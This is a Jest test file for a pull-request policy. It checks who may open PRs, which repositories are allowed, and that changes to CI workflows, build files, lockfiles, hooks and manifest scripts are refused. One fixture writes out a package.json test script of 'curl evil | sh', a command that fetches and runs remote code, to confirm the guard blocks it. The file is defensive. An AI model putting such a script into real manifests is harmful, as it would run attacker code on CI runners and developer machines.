import { ciRunReason, prRefusalFor, repoPatterns, repoRefusal } from './pr-policy';

describe('who may open pull requests (SOLVER_PR)', () => {
  it('admin: the admin only; everyone: anyone; off: nobody', () => {
    expect(prRefusalFor('admin', true)).toBeUndefined();
    expect(prRefusalFor('admin', false)).toMatch(/admin's alone.*SOLVER_PR=admin/);
    expect(prRefusalFor('everyone', false)).toBeUndefined();
    expect(prRefusalFor('off', true)).toMatch(/turned off.*SOLVER_PR=off/);
  });
});

describe('where (SOLVER_PR_REPOS)', () => {
  it('unset or empty: anywhere', () => {
    expect(repoPatterns(undefined)).toBeUndefined();
    expect(repoPatterns(' , ')).toBeUndefined();
    expect(repoRefusal(undefined, ['a/b'])).toBeUndefined();
  });

  it('owner/repo patterns with * wildcards, case-insensitive; every name of the repository must match', () => {
    const patterns = repoPatterns('octo/calc, acme/*,*/sandbox-*');
    const ok = (name: string) => repoRefusal(patterns, [name]) === undefined;
    expect(ok('octo/calc')).toBe(true);
    expect(ok('Octo/Calc')).toBe(true);
    expect(ok('octo/calculator')).toBe(false);
    expect(ok('acme/anything')).toBe(true);
    expect(ok('someone/sandbox-1')).toBe(true);
    expect(ok('someone/sandbox')).toBe(false);
    expect(ok('evil/calc')).toBe(false);
    // `.` and other characters are literal
    expect(repoRefusal(repoPatterns('a.b/c'), ['axb/c'])).toMatch(/axb\/c is not among .*SOLVER_PR_REPOS/);
    // a renamed repository: the URL's name and GitHub's must both be allowed
    expect(repoRefusal(patterns, ['octo/calc', 'evil/calc'])).toMatch(/^evil\/calc/);
  });
});

describe('files CI or a build runs are never pushed', () => {
  const change = (path: string, before?: string, after?: string) => ciRunReason({ path, before, after });

  it.each([
    '.github/workflows/ci.yml',
    '.github/actions/setup/action.yml',
    '.github/dependabot.yml',
    '.circleci/config.yml',
    '.gitlab-ci.yml',
    'Makefile',
    'sub/dir/GNUmakefile',
    'rules.mk',
    'Dockerfile',
    'docker/Dockerfile.dev',
    'app.dockerfile',
    'docker-compose.yml',
    'package-lock.json',
    'yarn.lock',
    'pnpm-lock.yaml',
    'Cargo.lock',
    'go.sum',
    'setup.py',
    'build.rs',
    'Jenkinsfile',
    '.husky/pre-commit',
    '.npmrc',
  ])('%s', (path) => {
    expect(change(path, 'a', 'b')).toMatch(new RegExp(`changes ${path.replace(/\./g, '\\.')}, which CI`));
  });

  it('a manifest only when its scripts change (or it no longer parses)', () => {
    const pkg = (scripts: object, version = '1.0.0') => JSON.stringify({ name: 'x', version, scripts }, null, 2);
    expect(change('package.json', pkg({ test: 'jest' }), pkg({ test: 'jest' }, '1.0.1'))).toBeUndefined();
    expect(change('package.json', pkg({ test: 'jest' }), pkg({ test: 'curl evil | sh' }))).toMatch(/changes the scripts of package\.json/);
    expect(change('web/package.json', pkg({}), pkg({ postinstall: 'x' }))).toMatch(/scripts of web\/package\.json/);
    expect(change('package.json', pkg({}), '{ broken')).toMatch(/scripts/);
    expect(change('package.json', undefined, pkg({ test: 'x' }))).toMatch(/scripts/);
    expect(change('package.json', undefined, '{"name": "new"}')).toBeUndefined();
    expect(change('composer.json', '{"scripts":{}}', '{"scripts":{"post-install-cmd":"x"}}')).toMatch(/scripts of composer\.json/);
  });

  it('ordinary sources, docs and tests are fine', () => {
    for (const path of ['src/math.js', 'README.md', 'test/math.test.js', 'docs/github.md', 'src/make.ts', 'lib/docker.go'])
      expect(change(path, 'a', 'b')).toBeUndefined();
  });
});
